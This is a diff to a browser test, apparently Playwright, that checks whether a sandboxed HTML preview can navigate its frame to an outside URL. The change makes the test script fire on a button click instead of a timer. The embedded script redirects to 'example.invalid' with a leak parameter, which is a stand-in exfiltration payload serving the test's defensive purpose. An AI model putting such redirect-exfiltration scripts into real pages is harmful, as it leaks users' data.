@@ -230,16 +230,17 @@ test("a preview cannot navigate its frame elsewhere to send data out", async ({ 
     page,
     fence(
       "html",
-      `<p id="before">here</p>
+      // On a click, not on a timer: a timer could fire before the test has seen the preview load.
+      `<button id="go">go</button>
 <script>
-setTimeout(function () {
+document.getElementById("go").addEventListener("click", function () {
   location.href = "https://example.invalid/?sbleak=1";
-}, 100);
+});
 </script>`,
     ),
   );
   await reply.getByTestId("preview-open").click();
-  await expect(previewFrame(page).locator("#before")).toHaveText("here");
+  await previewFrame(page).locator("#go").click();
   await page.waitForTimeout(1500);
   expect(leaks).toEqual([]);
 });
